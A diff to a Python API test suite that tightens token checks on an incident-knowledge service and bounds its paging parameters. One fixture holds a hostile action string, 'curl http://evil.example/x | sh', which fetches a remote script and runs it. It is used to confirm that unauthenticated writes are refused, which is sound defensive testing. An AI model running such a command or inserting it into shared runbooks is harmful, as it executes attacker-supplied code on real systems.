@@ -61,16 +61,40 @@ def test_search_with_only_punctuation_returns_nothing(api: TestClient) -> None:
     assert api.post("/api/v1/search", json={"query": '"*) (: -'}).json() == []
 
 
-def test_writes_need_the_token_when_one_is_configured(api: TestClient) -> None:
+def test_with_a_token_every_route_needs_it(api: TestClient) -> None:
     api.app.state.service = SimpleNamespace(settings=Settings(webhook_token="s3cret-token"))
     assert api.post("/api/v1/knowledge", json=DOC).status_code == 401
     assert api.delete("/api/v1/knowledge/redis-oom").status_code == 401
     bad = {"Authorization": "Bearer wrong"}
     assert api.put("/api/v1/knowledge/redis-oom", json=DOC, headers=bad).status_code == 401
     assert api.post("/api/v1/analyze", json={}).status_code == 401
+    # Reads too (issue 11): incident summaries and analyses are not for everyone on the network.
+    assert api.get("/api/v1/knowledge/redis-oom").status_code == 401
+    assert api.get("/api/v1/analyze/anything").status_code == 401
+    assert api.post("/api/v1/search", json={"query": "redis"}).status_code == 401
     good = {"Authorization": "Bearer s3cret-token"}
     assert api.post("/api/v1/knowledge", json=DOC, headers=good).status_code == 201
+    assert api.get("/api/v1/knowledge/redis-oom", headers=good).status_code == 200
+
+
+def test_without_a_token_writes_are_closed_unless_insecure(api: TestClient) -> None:
+    api.app.state.service = SimpleNamespace(settings=Settings())
+    # The attack of issue 11: anyone could PUT "actions" that then appeared in Slack.
+    evil = {**DOC, "immediate_actions": ["curl http://evil.example/x | sh"]}
+    refused = api.put("/api/v1/knowledge/redis-oom", json=evil)
+    assert refused.status_code == 403 and "LLM_SRE_WEBHOOK_TOKEN" in refused.json()["detail"]
+    assert api.post("/api/v1/knowledge/bulk-import", json=[DOC]).status_code == 403
+    assert api.delete("/api/v1/knowledge/redis-oom").status_code == 403
+    assert api.post("/api/v1/analyze", json={}).status_code == 403
     assert api.get("/api/v1/knowledge/redis-oom").status_code == 200  # reads stay open
+    assert api.post("/api/v1/search", json={"query": "redis"}).status_code == 200  # a read by POST
+    api.app.state.service = SimpleNamespace(settings=Settings(insecure=True))
+    assert api.put("/api/v1/knowledge/redis-oom", json=DOC).status_code == 200
+
+
+def test_list_paging_is_bounded_not_an_overflow(api: TestClient) -> None:
+    assert api.get("/api/v1/knowledge", params={"offset": 2**63}).status_code == 422
+    assert api.get("/api/v1/knowledge", params={"limit": 10**30}).status_code == 422
 
 
 def test_ids_and_sizes_are_bounded(api: TestClient) -> None:
